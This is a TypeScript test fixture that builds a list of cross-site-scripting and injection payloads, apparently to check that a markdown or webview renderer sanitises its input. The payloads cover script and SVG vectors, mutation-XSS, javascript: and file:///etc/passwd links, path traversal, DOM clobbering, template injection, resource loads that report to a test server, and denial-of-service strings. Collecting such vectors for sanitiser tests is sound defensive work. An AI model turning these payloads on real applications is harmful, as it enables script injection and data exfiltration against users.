const run = 'window.isHacked=1';
const handler = `onerror=${run}`;

/**
 * Texts that would run, load or send something if they were read as anything but text.
 *
 * @param server origin of a server that reports every request
 */
export function xssPayloads(server: string): readonly string[] {
  const script = `<script>${run}</script>`;
  const image = `<img src=x ${handler}>`;
  return [
    ...running(script, image),
    ...links(script),
    ...loading(server),
    ...inMarkdown(script, image),
    ...brokenOut(script, image),
  ];
}

function running(script: string, image: string): readonly string[] {
  return [
    script,
    image,
    `<svg onload=${run}>`,
    `<svg>${script}</svg>`,
    `<svg/onload=${run}>`,
    `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
    `<svg><a xlink:href="javascript:${run}"><text x=1 y=1>x</text></a></svg>`,
    `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'>${script}</svg>#x">`,
    `<svg><foreignObject>${image}</foreignObject></svg>`,
    `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
    `<iframe src="javascript:parent.${run}"></iframe>`,
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 ${handler}&gt;">`,
    `<form><math><mtext></form><form><mglyph><style></math>${image}`,
    `<svg></p><style><a id="</style>${image}">`,
    `<noscript><p title="</noscript>${image}">`,
    `<details open ontoggle=${run}>`,
    `<video><source ${handler}></video>`,
    `<audio src=x ${handler}>`,
    `<body onload=${run}>`,
    `<input autofocus onfocus=${run}>`,
    `<marquee onstart=${run}>`,
    `<select><style></select>${image}</style>`,
    `<template>${script}</template>`,
    `<xmp><p title="</xmp>${image}">`,
    `<kbd onclick=${run}>k</kbd>`,
    `<b/onclick=${run}>k</b>`,
    `<mark\nonmouseover=${run}>k`,
    `<br onclick=${run}>`,
    `<vscode-button onclick=${run}>x</vscode-button>`,
    `<a id=acquireVsCodeApi href=x>x</a><b id=posts>x</b>`,
    `<form name=getElementById><input name=querySelector></form>`,
  ];
}

function links(script: string): readonly string[] {
  return [
    `<a href="javascript:${run}">x</a>`,
    `<a href="&#x6a;avascript:${run}">x</a>`,
    `<a href="java\tscript:${run}">x</a>`,
    `[x](javascript:${run})`,
    `[x](JaVaScRiPt:${run})`,
    `[x](&#x6a;avascript:${run})`,
    `[x](java\nscript:${run})`,
    `[x](\u0001javascript:${run})`,
    `[x](data:text/html,${script})`,
    '[x](vbscript:x)',
    '[x](command:workbench.action.terminal.new)',
    '[x](vscode://file/etc/passwd)',
    '[x](file:///etc/passwd)',
    `[a](<b.ts" onclick="${run}>)`,
    `[a](a.ts:1 "t\\" onclick=${run} x=\\"")`,
    `<https://x" onclick="${run}>`,
    `https://x/"onclick="${run}`,
    '<a data-path="../../etc/passwd" data-line="1">x</a>',
  ];
}

function loading(server: string): readonly string[] {
  return [
    `![x](${server}/image?q=secret)`,
    `![x](//${new URL(server).host}/x)`,
    `[![x](${server}/nested)](${server}/link)`,
    `![ref]\n\n[ref]: ${server}/reference`,
    `<img src="${server}/raw">`,
    `<img srcset="${server}/set 1x">`,
    `<picture><source srcset="${server}/source"><img></picture>`,
    `<link rel=stylesheet href="${server}/style">`,
    `<link rel=prefetch href="${server}/prefetch"><link rel=preconnect href="${server}">`,
    `<style>@import "${server}/import";</style>`,
    `<style>*{background:url(${server}/background)}</style>`,
    `<b style="background:url(${server}/attribute)">x</b>`,
    `<meta http-equiv=refresh content="0;url=${server}/refresh">`,
    `<base href="${server}/">`,
    `<object data="${server}/object"></object>`,
    `<embed src="${server}/embed">`,
    `<audio src="${server}/audio" autoplay></audio>`,
    `<video poster="${server}/poster"></video>`,
    `<track src="${server}/track">`,
    `<iframe src="${server}/frame"></iframe>`,
    `<form action="${server}/form"><input name=q value=secret></form><script>document.forms[0].submit()</script>`,
    `<table><td background="${server}/cell">`,
    `<input type=image src="${server}/button">`,
    `<svg><image href="${server}/picture"/></svg>`,
  ];
}

function inMarkdown(script: string, image: string): readonly string[] {
  const fence = '`'.repeat(3);
  return [
    `${fence}html" onmouseover="${run}\n${script}\n${fence}`,
    `\`${script}\``,
    `\`a.ts:1">${image}\``,
    `| a |\n|--|\n| ${image} |`,
    `1. ${image}`,
    `> ${image}`,
    `# ${image}`,
    `- [ ] ${image}`,
    `![${image}](x)`,
    '<'.repeat(2_000),
    '['.repeat(2_000),
    '*'.repeat(2_001),
    `${'> '.repeat(300)}x`,
    `${'- '.repeat(300)}x`,
    '`'.repeat(3_001),
  ];
}

function brokenOut(script: string, image: string): readonly string[] {
  return [
    `"><script>${run}</script>`,
    `'>${image}`,
    `" onmouseover="${run}`,
    `</title>${script}`,
    `</textarea>${script}`,
    `</style>${script}`,
    `</pre></details>${script}`,
    `</summary>${image}`,
    `<!-- -->${image}`,
    `-->\n${script}`,
    `<![CDATA[${image}]]>`,
    `<?php ${image} ?>`,
    `\${${run}}`,
    `{{constructor.constructor('${run}')()}}`,
    `\u202e${image}`,
    `\u2028${script}`,
    `&lt;script&gt;${run}&lt;/script&gt;`,
    `\\"-${run}-\\"`,
  ];
}
